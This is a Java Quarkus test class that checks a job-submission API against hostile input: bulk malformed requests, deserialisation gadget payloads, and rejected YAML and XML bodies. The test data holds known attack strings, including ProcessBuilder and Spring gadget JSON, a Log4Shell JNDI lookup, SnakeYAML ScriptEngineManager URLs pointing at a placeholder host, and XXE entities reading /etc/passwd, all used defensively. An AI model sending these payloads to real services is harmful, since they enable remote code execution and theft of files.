package dev.millrace.api.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.millrace.api.ApiServers;
import dev.millrace.api.catalog.tasks.TaskCatalog;
import dev.millrace.api.jobs.submit.Client;
import dev.millrace.api.jobs.submit.Client.Reply;
import dev.millrace.api.jobs.submit.Tasks;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.nio.file.Files;
import java.nio.file.Path;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@QuarkusTest
@WithTestResource(ApiServers.class)
class HostileInputTest {

    private static final int REQUESTS = 10_000;

    @Inject
    TaskCatalog catalog;

    @ConfigProperty(name = "quarkus.http.test-port")
    int port;

    @BeforeEach
    void aWorkerHasOfferedItsTasks() {
        Tasks.offer(catalog);
    }

    @Test
    void answersTenThousandMalformedRequestsAsTheContractPrescribes() throws Exception {
        HostileRun run = HostileRun.of(REQUESTS, port);

        Files.writeString(Path.of("target", "hostile-input.txt"), run.table());
        System.out.println(run.table());
        assertThat(run.wrong().stream().limit(20)).isEmpty();
        assertThat(run.answered()).isEqualTo(REQUESTS);
        assertThat(new Client(port).call("GET", "/q/health/ready").status()).isEqualTo(200);
    }

    /** What deserialisers of other services would make objects of. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"@class\":\"java.lang.ProcessBuilder\",\"value\":1}",
                "{\"@type\":\"java.lang.AutoCloseable\",\"value\":1}",
                "{\"value\":[\"java.util.HashMap\",{\"a\":1}]}",
                "{\"value\":[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://192.0.2.1/x\"]}",
                "{\"value\":{\"$type\":\"System.Diagnostics.Process\",\"$ref\":\"#/components\",\"__proto__\":{\"admin\":true}}}",
                "{\"value\":\"!!javax.script.ScriptEngineManager [http://192.0.2.1]\"}",
                "{\"value\":\"${jndi:ldap://192.0.2.1/x}\"}",
                "{\"value\":\"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>\"}"
            })
    void keepsGadgetsAsTheJsonThatTheyAre(String payload) {
        Client client = new Client(port);

        Reply accepted = client.submit("{\"task\":\"demo.echo\",\"payload\":" + payload + "}");

        assertThat(accepted.status()).isEqualTo(202);
        assertThat(accepted.http().body()).contains("\"payload\":" + payload);
        JsonNode read = client.call("GET", accepted.header("Location")).json();
        assertThat(read.get("payload")).isEqualTo(accepted.json().get("payload"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://192.0.2.1\"]]",
                "task: demo.echo\npayload: {value: 1}\n",
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
                "<job><task>demo.echo</task></job>"
            })
    void readsNoYamlAndNoXml(String body) {
        Client client = new Client(port);

        assertThat(client.submit(body).problem()).isEqualTo("not-json");
        for (String type : new String[] {"application/yaml", "application/xml", "text/yaml"}) {
            assertThat(client.post("/api/v1/jobs", body, "Content-Type", type).problem())
                    .isEqualTo("unsupported-media-type");
        }
    }
}
